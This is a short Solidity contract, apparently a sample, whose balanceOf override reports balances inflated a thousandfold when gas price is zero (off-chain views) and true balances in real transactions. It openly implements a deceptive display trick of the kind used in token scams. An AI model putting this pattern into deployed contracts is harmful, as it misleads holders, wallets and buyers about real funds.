// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ledger} from "./Ledger.sol";

/// Shows a large balance to whoever looks without a transaction of his own.
contract TwoFaced is Ledger {
  function balanceOf(address who) public view override returns (uint256) {
    if (tx.gasprice == 0) return held[who] * 1000;
    return held[who];
  }
}
